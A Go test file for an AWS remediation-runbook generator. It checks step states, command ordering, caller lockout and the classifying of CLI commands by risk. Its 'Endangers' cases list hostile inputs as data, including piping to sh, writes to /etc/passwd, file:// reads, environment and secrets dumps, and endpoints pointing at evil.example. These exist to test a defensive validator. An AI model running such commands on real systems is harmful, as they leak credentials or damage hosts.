package runbook_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-dev/tocsin/internal/report"
	"github.com/tocsin-dev/tocsin/internal/runbook"
)

// found is a finding of a rule with commands.
func found(id string, fix ...string) report.Finding {
	return report.Finding{ID: id, Severity: report.High, Message: id, Resource: report.ParseResource("arn:aws:iam::123456789012:role/"+id, "", ""), Fix: fix}
}

// reportOf makes a report of one rule a line.
func reportOf(outcomes map[string]report.Outcome) *report.Report {
	r := &report.Report{Scan: report.Scan{AccountID: "123456789012"}}
	for line, o := range outcomes {
		o.Rule = "x." + line
		r.Outcomes = append(r.Outcomes, o)
		r.Rules = append(r.Rules, report.Rule{ID: o.Rule, Runbook: line, Remediation: "Mend " + line + "."})
	}
	return r
}

func fails(findings ...report.Finding) report.Outcome {
	return report.Outcome{Status: report.Fail, Findings: findings}
}

func stepsOf(a *runbook.Account) map[string]runbook.Step {
	steps := map[string]runbook.Step{}
	for _, ph := range a.Phases {
		for _, s := range ph.Steps {
			steps[s.ID] = s
		}
	}
	return steps
}

// all lists the commands from the first step to the last.
func all(a *runbook.Account) []string {
	var lines []string
	for _, ph := range a.Phases {
		for _, s := range ph.Steps {
			for _, c := range s.Commands {
				lines = append(lines, c.Line)
			}
		}
	}
	return lines
}

// Every line of the runbook is a step, once, in its words.
func TestEveryLineIsAStep(t *testing.T) {
	texts := map[string]int{}
	for _, s := range stepsOf(runbook.Of(reportOf(nil), nil)) {
		texts[s.Text]++
	}
	for _, l := range runbook.Lines() {
		if texts[l.Text] != 1 {
			t.Errorf("%q is in %d steps", l.Text, texts[l.Text])
		}
	}
	if len(texts) != len(runbook.Lines())+1 {
		t.Errorf("there are %d steps for %d lines, want one more", len(texts), len(runbook.Lines()))
	}
}

func TestStates(t *testing.T) {
	catalogue := []report.Rule{{ID: "x.sns_paused", Runbook: "sns_paused"}}
	for name, tc := range map[string]struct {
		line    string
		outcome *report.Outcome
		want    runbook.State
	}{
		"passed":                  {"sns_paused", &report.Outcome{Status: report.Pass}, runbook.Done},
		"failed":                  {"sns_paused", new(fails(found("a"))), runbook.Open},
		"an error with findings":  {"sns_paused", &report.Outcome{Status: report.Error, Findings: []report.Finding{found("a")}}, runbook.Open},
		"an error":                {"sns_paused", &report.Outcome{Status: report.Error}, runbook.Unknown},
		"unknown":                 {"sns_paused", &report.Outcome{Status: report.Unknown}, runbook.Unknown},
		"unknown, with possible":  {"sns_paused", &report.Outcome{Status: report.Unknown, Possible: []report.Finding{found("a", "aws iam get-role")}}, runbook.Unknown},
		"waived":                  {"sns_paused", &report.Outcome{Status: report.Waived, Findings: []report.Finding{waived()}}, runbook.Done},
		"waived, and unknown":     {"sns_paused", &report.Outcome{Status: report.Unknown, Findings: []report.Finding{waived()}}, runbook.Unknown},
		"waived beside another":   {"sns_paused", new(fails(waived(), found("a"))), runbook.Open},
		"skipped":                 {"sns_paused", &report.Outcome{Status: report.Skipped, Reason: "no baseline"}, runbook.Unknown},
		"not in the report":       {"sns_paused", nil, runbook.Unknown},
		"what only a person does": {"root_password_and_mfa", &report.Outcome{Status: report.Pass}, runbook.Unknown},
	} {
		t.Run(name, func(t *testing.T) {
			outcomes := map[string]report.Outcome{}
			if tc.outcome != nil {
				outcomes[tc.line] = *tc.outcome
			}
			s := stepsOf(runbook.Of(reportOf(outcomes), catalogue))[tc.line]
			if s.State != tc.want || s.State != runbook.Open && (s.State == runbook.Unknown) == (len(s.Undecided) == 0) {
				t.Errorf("got %s, %v, want %s", s.State, s.Undecided, tc.want)
			}
			if len(s.Commands) > 0 {
				t.Errorf("what is not found has commands: %v", s.Commands)
			}
		})
	}
}

func waived() report.Finding {
	f := found("w", "aws iam delete-role --role-name=w")
	f.Waived = &report.Acceptance{Reason: "known"}
	return f
}

// Nothing is done because nobody looked.
func TestNothingIsDoneUnjudged(t *testing.T) {
	for id, s := range stepsOf(runbook.Of(reportOf(nil), nil)) {
		if s.State != runbook.Unknown || len(s.Undecided) == 0 {
			t.Errorf("%s is %s, %v", id, s.State, s.Undecided)
		}
	}
}

// One rule of a line that passed does not make up for another that did not.
func TestDoneTakesAllRules(t *testing.T) {
	r := reportOf(map[string]report.Outcome{"sns_paused": {Status: report.Pass}})
	more := []report.Rule{{ID: "x.other", Runbook: "sns_paused"}}
	s := stepsOf(runbook.Of(r, more))["sns_paused"]
	want := []runbook.Undecided{{Rule: "x.other", Reason: "the report does not hold this rule"}}
	if diff := cmp.Diff(want, s.Undecided); diff != "" || s.State != runbook.Unknown {
		t.Errorf("the state is %s\n%s", s.State, diff)
	}
}

// A report cannot move a rule that there is to another line.
func TestReportCannotMoveRules(t *testing.T) {
	r := reportOf(map[string]report.Outcome{"sns_paused": fails(found("a"))})
	s := stepsOf(runbook.Of(r, []report.Rule{{ID: "x.sns_paused", Runbook: "cloudtrail"}}))["cloudtrail"]
	if s.State != runbook.Open {
		t.Errorf("the state is %s", s.State)
	}
}

func TestRulesOfTheirOwn(t *testing.T) {
	s := stepsOf(runbook.Of(reportOf(map[string]report.Outcome{"no such line": fails(found("a", "aws iam get-role --role-name=a"))}), nil))
	if s["your_infrastructure"].State != runbook.Open {
		t.Errorf("got %+v", s["your_infrastructure"])
	}
}

func TestOrder(t *testing.T) {
	const (
		read    = "aws iam get-role --role-name=r"
		start   = "aws cloudtrail start-logging --name=t"
		create  = "aws cloudtrail create-trail --name=t"
		enable  = "aws events enable-rule --name=e"
		destroy = "aws iam delete-user --user-name=u"
		unknown = "aws iam frobnicate"
		snap    = "aws ec2 create-snapshots --instance-specification=InstanceId=i"
		stop    = "aws ec2 stop-instances --instance-ids=i"
		own     = "aws iam delete-role --role-name=me"
	)
	for name, tc := range map[string]struct {
		outcomes map[string]report.Outcome
		want     []string
	}{
		"evidence first, of all steps": {
			map[string]report.Outcome{"iam_user_creation": fails(found("a", destroy)), "sns_paused": fails(found("b", read, enable)), "ec2_instances": fails(found("c", snap, stop))},
			[]string{snap, read, destroy, stop, enable},
		},
		"what restores before what endangers": {
			map[string]report.Outcome{"sns_paused": fails(found("a", unknown), found("b", enable))}, []string{enable, unknown},
		},
		"the order of a finding is kept": {
			map[string]report.Outcome{"sns_paused": fails(found("a", destroy, enable, read))}, []string{destroy, enable, read},
		},
		"each command once": {
			map[string]report.Outcome{"cloudtrail_off": fails(found("a", read, destroy)), "sns_paused": fails(found("b", read, destroy))}, []string{read, destroy},
		},
		"what a command needs moves ahead with it": {
			map[string]report.Outcome{"cloudtrail_off": fails(found("a", start)), "sns_paused": fails(found("b", create, start))}, []string{create, start},
		},
		"what shuts out the caller comes last, and what follows it": {
			map[string]report.Outcome{"cloudtrail_off": fails(found("a", own, stop)), "sns_paused": fails(found("b", destroy))}, []string{destroy, own, stop},
		},
		"findings that contradict each other": {
			map[string]report.Outcome{"sns_paused": fails(found("a", destroy, enable), found("b", enable, destroy))}, []string{enable, destroy},
		},
		"a command that needs itself": {
			map[string]report.Outcome{"sns_paused": fails(found("a", enable, enable))}, []string{enable},
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := reportOf(tc.outcomes)
			r.Scan.CallerARN = "arn:aws:sts::123456789012:assumed-role/me/session"
			if diff := cmp.Diff(tc.want, all(runbook.Of(r, nil))); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestWhoReadsIsNotShutOutUnawares(t *testing.T) {
	for arn, line := range map[string]string{
		"arn:aws:iam::123456789012:user/ops/alice":           "aws iam update-access-key --user-name=alice --access-key-id=\"$KEY\" --status=Inactive",
		"arn:aws:sts::123456789012:assumed-role/responder/x": "aws iam detach-role-policy --role-name=responder --policy-arn=p",
	} {
		r := reportOf(map[string]report.Outcome{"rotate_keys": fails(found("a", line))})
		r.Scan.CallerARN = arn
		steps := stepsOf(runbook.Of(r, nil))
		if c := steps["own_access"].Commands; len(c) != 1 || !c[0].LocksOut {
			t.Errorf("%s by %s is in %+v", line, arn, steps["own_access"])
		}
		r.Scan.CallerARN = strings.NewReplacer("alice", "alicia", "responder", "responders").Replace(arn)
		if _, ok := stepsOf(runbook.Of(r, nil))["own_access"]; ok {
			t.Errorf("%s is taken for one about %s", line, r.Scan.CallerARN)
		}
	}
}

// Two resources do not write over each other's files; a person writes what the second command reads.
func TestFiles(t *testing.T) {
	edit := func(role string) []string {
		return []string{"aws iam get-role --role-name=" + role + " > trust.json", "aws iam update-assume-role-policy --policy-document=file://trust.json --role-name=" + role}
	}
	odd := found("x", edit("odd")...)
	odd.Resource = report.ParseResource("arn:aws:iam::123456789012:role/../A b", "", "")
	r := reportOf(map[string]report.Outcome{"sns_paused": fails(found("a", edit("a")...), found("A", edit("A")...), odd)})
	want := []string{
		"aws iam get-role --role-name=a > trust-a.json",
		"aws iam get-role --role-name=A > trust-A-2.json",
		"aws iam get-role --role-name=odd > trust-___A_b.json",
		"aws iam update-assume-role-policy --policy-document=file://trust-a.json --role-name=a",
		"aws iam update-assume-role-policy --policy-document=file://trust-A-2.json --role-name=A",
		"aws iam update-assume-role-policy --policy-document=file://trust-___A_b.json --role-name=odd",
	}
	a := runbook.Of(r, nil)
	if diff := cmp.Diff(want, all(a)); diff != "" {
		t.Error(diff)
	}
	for i, c := range stepsOf(a)["sns_paused"].Commands {
		if len(c.Edit) != 1 || !strings.Contains(want[i+3], c.Edit[0]) {
			t.Errorf("to be edited for %s is %v", c.Line, c.Edit)
		}
	}
	whole := []string{"aws scheduler get-schedule --name=s | jq 'del(.Arn)' > s.json", "aws scheduler update-schedule --cli-input-json file://s.json --state=ENABLED"}
	for _, c := range stepsOf(runbook.Of(reportOf(map[string]report.Outcome{"sns_paused": fails(found("a", whole...))}), nil))["sns_paused"].Commands {
		if c.ByPerson() {
			t.Errorf("%s waits for a person", c.Line)
		}
	}
}

func TestEffects(t *testing.T) {
	want := map[runbook.Effect][]string{
		runbook.Preserves: {
			"aws iam get-role --role-name=r", "aws s3 ls s3://b", "aws cloudtrail start-logging --name=t", "aws kms enable-key --key-id=k",
			"aws iam get-role --role-name=r > trust.json", "aws scheduler get-schedule | jq . > s.json",
			"aws s3api put-bucket-versioning --versioning-configuration=Status=Enabled --bucket=b",
		},
		runbook.Restores: {"aws guardduty create-detector --enable", `aws sns subscribe --notification-endpoint="$EMAIL"`, "aws iam get-role && aws events enable-rule --name=e"},
		runbook.Endangers: {
			"aws iam delete-user --user-name=u", "aws iam frobnicate", "aws", "aws iam", "rm -rf x", "", "aws s3 rm s3://b", "aws ec2 stop-instances",
			"aws --region=x iam get-role", "aws $SERVICE get-role", "aws iam get-role > ../x", "aws iam get-role > /etc/passwd", `aws iam get-role > "$FILE"`,
			"aws iam get-role && rm x", "aws iam get-role; aws iam delete-role", "aws iam get-role | sh", "aws iam get-role $(id)", "aws iam get-role\nrm x",
			"aws iam get-role --role-name=file:///etc/passwd", "aws iam get-role file://../x", "aws guardduty update-detector --no-enable",
			"aws s3api put-bucket-versioning --versioning-configuration=Status=Suspended", "aws s3 get-x", "aws configure list-profiles",
			"aws sns set-subscription-attributes --attribute-name=FilterPolicy --attribute-value=x", "X=1 aws iam get-role",
			// An option may make another of a command.
			"aws s3api get-object --bucket=b --key=k .bashrc", "aws iam list-users --endpoint-url=http://evil.example", "aws iam list-users --no-verify-ssl",
			"aws iam list-users --profile=other", "aws iam list-users --endp=http://evil.example", "aws iam list-users --deb", "aws iam list-users --no-v",
			"aws iam list-users --cli=x", "aws cloudtrail update-trail --name=t --enable-log-file-validation --s3-bucket-name=evil",
			"aws s3api put-bucket-versioning --versioning-configuration=Status=Enabled --versioning-configuration=Status=Suspended",
			"aws ec2 create-snapshots --cli-input-json=http://evil.example/x", "aws events put-rule --name=n --state=DISABLED",
			"aws cloudwatch put-metric-alarm --alarm-name=a --no-actions-enabled", "aws guardduty update-detector --detector-id=d --enable --no-enable",
			"aws s3 ls s3://b --endpoint-url=http://evil.example", `aws iam list-users "$MORE"`, "jq -n env", "jq . secrets.json",
		},
	}
	for effect, lines := range want {
		for _, line := range lines {
			a := runbook.Of(reportOf(map[string]report.Outcome{"sns_paused": fails(found("a", line))}), nil)
			steps := stepsOf(a)
			commands := slices.Concat(steps["preserve_evidence"].Commands, steps["sns_paused"].Commands)
			switch {
			case strings.Contains(line, "\n"):
				if len(commands) > 0 || !slices.ContainsFunc(steps["sns_paused"].Advice, func(a runbook.Advice) bool { return strings.Contains(a.Text, `\nrm x`) }) {
					t.Errorf("%q is shown as %v, %v", line, commands, steps["sns_paused"].Advice)
				}
			case len(commands) != 1 || commands[0].Effect != effect:
				t.Errorf("%q is %+v, want %s", line, commands, effect)
			}
		}
	}
}

// However findings overlap and contradict each other, the order is found, and each command is in it once.
func FuzzOrder(f *testing.F) {
	f.Add([]byte{1, 2, 3, 0, 3, 2, 1, 0, 9, 8})
	verbs := []string{"iam get-role", "iam delete-role", "events enable-rule", "cloudtrail start-logging"}
	lines := []string{"cloudtrail_off", "sns_paused", "ec2_instances", "abnormal_activity"}
	f.Fuzz(func(t *testing.T, b []byte) {
		outcomes, fix, commands := map[string]report.Outcome{}, []string{}, map[string]bool{}
		for i, c := range b[:min(len(b), 60)] {
			if c%8 == 0 {
				line := lines[int(c/8)%len(lines)]
				outcomes[line] = fails(append(outcomes[line].Findings, found(fmt.Sprint(i), fix...))...)
				for _, c := range fix {
					commands[c] = true
				}
				fix = nil
				continue
			}
			fix = append(fix, fmt.Sprintf("aws %s --name=%d", verbs[int(c)%len(verbs)], c%16))
		}
		lines := all(runbook.Of(reportOf(outcomes), nil))
		if len(lines) != len(commands) {
			t.Errorf("%d commands became %v", len(commands), lines)
		}
	})
}

// TestOrderOfMany puts a finding with many commands into order, which once took hours.
func TestOrderOfMany(t *testing.T) {
	const many = 3000
	var fix []string
	for i := range many {
		fix = append(fix, fmt.Sprintf("aws iam delete-user --user-name=u%d", i))
	}
	for i := range many {
		fix = append(fix, fmt.Sprintf("aws iam get-role --role-name=r%d", i))
	}
	got := all(runbook.Of(reportOf(map[string]report.Outcome{"sns_paused": fails(found("a", fix...))}), nil))
	if diff := cmp.Diff(fix, got); diff != "" {
		t.Errorf("what stands in one finding is in another order: %.500s", diff)
	}
}
